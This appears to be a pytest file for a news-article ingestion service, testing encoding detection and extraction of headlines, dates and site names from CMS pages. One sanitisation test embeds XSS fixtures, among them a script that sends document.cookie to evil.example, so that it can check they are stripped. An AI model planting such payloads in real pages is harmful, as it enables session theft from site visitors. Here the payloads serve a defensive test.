"""HTML pages from Bitrix/Joomla/WordPress-like CMSs, in the encodings the region's sites use."""

import codecs

from ingest_pages import CSTO_BODY, RU_BODY, bitrix_page, joomla_page, wordpress_page, write

from searchsvc.ingest import ingest_paths
from searchsvc.ingest.urls import url_id

TITLE = "CSTO Secretary General Tasmagambetov invited to Belarus in February"
RU_TITLE = "Вольфович встретился с новым генсеком ОДКБ"


def ingest_one(path):
    report = ingest_paths([path], extract_entities=False)
    report.check()
    (result,) = report.results
    assert not result.rejected, result.reason
    return result


def test_bitrix_page_in_windows_1251_declared(tmp_path):
    page = bitrix_page(RU_TITLE, "11.01.2023 14:35", RU_BODY)
    result = ingest_one(write(tmp_path / "news.html", page, encoding="cp1251"))
    a = result.article
    assert a.title == RU_TITLE  # the <title>'s " - site" suffix is not part of the headline
    assert (a.published, a.published_time) == ("2023-01-11", "14:35")
    assert a.site == "Gorki District Executive Committee"  # the committee's one name, whatever the page's language
    assert a.paragraphs == RU_BODY
    assert a.lang == "ru"
    for chrome in ("Главная", "Версия для слабовидящих", "Последние новости", "Все права", "Поделиться"):
        assert chrome not in a.body


def test_windows_1251_without_declaration_is_detected(tmp_path):
    page = bitrix_page(RU_TITLE, "11 января 2023", RU_BODY, declare=False)
    result = ingest_one(write(tmp_path / "news.html", page, encoding="cp1251"))
    assert result.article.title == RU_TITLE
    assert result.article.paragraphs == RU_BODY
    assert result.article.published == "2023-01-11"
    assert any("windows-1251" in w for w in result.warnings)


def test_wordpress_page_in_utf16_with_bom(tmp_path):
    page = wordpress_page(TITLE, "Osipovichi Regional Executive Committee", "2023-01-11T11:35:00+00:00", CSTO_BODY,
                          canonical="https://osipovichi.gov.by/en/news/csto-visit/?utm_source=telegram")
    path = write(tmp_path / "post.html", codecs.BOM_UTF16_LE + page.encode("utf-16-le"))
    a = ingest_one(path).article
    assert a.title == TITLE
    assert a.site == "Osipovichi District Executive Committee"
    assert (a.published, a.published_time) == ("2023-01-11", "14:35")  # UTC in the page, Minsk time stored
    assert a.url == "https://osipovichi.gov.by/en/news/csto-visit"
    assert a.id == url_id("http://osipovichi.gov.by/en/news/csto-visit")  # stable: canonical URL, not content
    assert a.paragraphs == CSTO_BODY
    for chrome in ("Share this", "Recent Posts", "Great news for everyone", "Related", "All rights reserved",
                   "Economy"):
        assert chrome not in a.body


def test_utf16_big_endian_bom(tmp_path):
    page = wordpress_page(TITLE, "Borisov District Executive Committee", "2023-01-11", CSTO_BODY,
                          canonical="https://borisov.gov.by/news/1")
    a = ingest_one(write(tmp_path / "post.htm", codecs.BOM_UTF16_BE + page.encode("utf-16-be"))).article
    assert (a.title, a.published, a.site) == (TITLE, "2023-01-11", "Borisov District Executive Committee")


def test_joomla_page_title_from_heading_and_date_from_time_element(tmp_path):
    page = joomla_page(TITLE, "Slutsk District Executive Committee", "2023-01-11T14:35:00+03:00", CSTO_BODY)
    a = ingest_one(write(tmp_path / "item.html", page)).article
    assert a.title == TITLE
    assert (a.published, a.published_time) == ("2023-01-11", "14:35")
    assert a.site == "Slutsk District Executive Committee"
    assert a.paragraphs == CSTO_BODY
    assert "Useful links" not in a.body and "Hits" not in a.body


def test_html_saved_with_txt_suffix_is_still_html(tmp_path):
    page = wordpress_page(TITLE, "Pinsk District Executive Committee", "2023-01-11", CSTO_BODY,
                          canonical="https://pinsk.gov.by/news/2")
    a = ingest_one(write(tmp_path / "scraped.txt", page)).article
    assert a.title == TITLE and a.paragraphs == CSTO_BODY


def test_script_in_title_and_body_is_removed_not_kept_as_text(tmp_path):
    body = [CSTO_BODY[0] + '<script>document.location="https://evil.example/?c="+document.cookie</script>',
            '<img src=x onerror="alert(1)">' + CSTO_BODY[1]]
    page = wordpress_page(TITLE, "Osipovichi Regional Executive Committee", "2023-01-11", body,
                          canonical="https://osipovichi.gov.by/news/3")
    page = page.replace(f'<h1 class="entry-title">{TITLE}</h1>',
                        f'<h1 class="entry-title">{TITLE}<script>alert("x")</script></h1>')
    a = ingest_one(write(tmp_path / "xss.html", page)).article
    assert a.title == TITLE
    assert a.paragraphs == CSTO_BODY[:2]
    assert "<" not in a.body and "alert" not in a.body and "cookie" not in a.body


def test_sidebar_news_dates_and_a_logo_heading_are_not_the_articles(tmp_path):
    sidebar = ('<div class="left-col"><div class="news-list"><div class="item"><span class="news-date">05.01.2023'
               '</span><a href="/n/9">Дорожники района отремонтировали мост через реку Свислочь</a></div></div></div>')
    paragraphs = "".join(f"<p>{p}</p>" for p in RU_BODY)
    page = (f'<html><head><meta charset="utf-8"><title>{RU_TITLE}</title></head><body>'
            f'<h1 class="logo">Осиповичский районный исполнительный комитет</h1>{sidebar}'
            f'<div class="content"><h1>{RU_TITLE}</h1><div>11 января 2023, 14:35</div>{paragraphs}</div>'
            f'<div class="footer">© 2024 Осиповичский райисполком. Все права защищены.</div></body></html>')
    a = ingest_one(write(tmp_path / "p.html", page)).article
    assert (a.title, a.published, a.published_time) == (RU_TITLE, "2023-01-11", "14:35")
    assert a.site == "Osipovichi District Executive Committee"  # from the footer's copyright line, canonical
    assert a.paragraphs == RU_BODY


def test_a_headline_in_h3_finds_its_date_above_it_not_the_sidebars(tmp_path):
    # a Bitrix template whose headline is an <h3> (no h1/h2): the date next to it, not a "latest news" date
    sidebar = ('<aside class="sidebar"><h3>Последние новости</h3><ul class="latestnews"><li><span class="date">'
               '09.01.2023</span> <a href="#">Итоги районной спартакиады</a></li></ul></aside>')
    paragraphs = "".join(f"<p>{p}</p>" for p in RU_BODY)
    page = (f'<html><head><meta charset="utf-8"><title>{RU_TITLE}</title></head><body>'
            f'<div class="news-detail"><span class="news-date-time">11 января 2023</span><h3>{RU_TITLE}</h3>'
            f'{paragraphs}</div>{sidebar}</body></html>')
    a = ingest_one(write(tmp_path / "p.html", page)).article
    assert (a.title, a.published) == (RU_TITLE, "2023-01-11")


def test_logo_heading_and_a_title_tag_holding_only_the_site_name(tmp_path):
    site = "Осиповичский районный исполнительный комитет"
    paragraphs = "".join(f"<p>{p}</p>" for p in RU_BODY)
    page = (f'<html><head><meta charset="utf-8"><title>{site}</title></head><body>'
            f'<div class="header"><h1 class="logo">{site}</h1></div>'
            f'<div class="content"><h1>{RU_TITLE}</h1><div class="date">11.01.2023</div>{paragraphs}</div></body></html>')
    a = ingest_one(write(tmp_path / "p.html", page)).article
    assert (a.title, a.site, a.published) == (RU_TITLE, "Osipovichi District Executive Committee", "2023-01-11")


def test_visible_headline_wins_over_a_different_seo_title(tmp_path):
    paragraphs = "".join(f"<p>{p}</p>" for p in RU_BODY)
    page = ('<html><head><meta charset="utf-8"><meta property="og:title" content="Новости Осиповичей: встреча в Москве">'
            f'<title>Новости</title></head><body><div class="news-detail"><h1>{RU_TITLE}</h1>'
            f'<span class="news-date-time">11.01.2023</span>{paragraphs}</div></body></html>')
    result = ingest_one(write(tmp_path / "p.html", page))
    assert result.article.title == RU_TITLE
    assert result.to_json()["site"] is None  # "Новости" is a section, not the site's name


def test_placeholder_metadata_date_gives_way_to_the_visible_one(tmp_path):
    page = bitrix_page(RU_TITLE, "11.01.2023", RU_BODY, charset="utf-8").replace(
        "<title>", '<meta property="article:published_time" content="1970-01-01T00:00:00Z"><title>')
    result = ingest_one(write(tmp_path / "p.html", page))
    assert result.article.published == "2023-01-11"


def test_stale_windows_1251_declaration_on_a_utf8_page(tmp_path):
    page = bitrix_page(RU_TITLE, "11.01.2023", RU_BODY)  # declares windows-1251 ...
    a = ingest_one(write(tmp_path / "p.html", page, encoding="utf-8")).article  # ... but is UTF-8
    assert a.title == RU_TITLE and a.paragraphs == RU_BODY


def test_page_without_semantic_markup_reads_like_the_text_scrape(tmp_path):
    paragraphs = "".join(f"<p>{p}</p>" for p in CSTO_BODY)
    page = f"""<html><head><meta charset="utf-8"><title>{TITLE}</title></head><body>
<div class="a1"><span>Font settings</span><button>Times New Roman</button><span>Font size</span>
<button>on white</button><button>on blue</button></div>
<div class="a2"><a href="/">Osipovichi Regional Executive Committee</a></div>
<div class="a3"><a href="/">Main</a> / <a href="/news">News</a></div>
<div class="a4">11 January 2023</div>
<div class="a5"><h2>{TITLE}</h2>{paragraphs}</div></body></html>"""
    a = ingest_one(write(tmp_path / "plain.html", page)).article
    assert (a.site, a.published, a.title) == ("Osipovichi District Executive Committee", "2023-01-11", TITLE)
    assert a.paragraphs == CSTO_BODY


def test_utf16_without_a_byte_order_mark(tmp_path):
    page = wordpress_page(TITLE, "Borisov District Executive Committee", "2023-01-11", CSTO_BODY,
                          canonical="https://borisov.gov.by/news/7")
    result = ingest_one(write(tmp_path / "post.html", page.encode("utf-16-le")))
    assert result.article.title == TITLE and result.article.paragraphs == CSTO_BODY
    assert "no byte-order mark: decoded as utf-16-le" in result.warnings
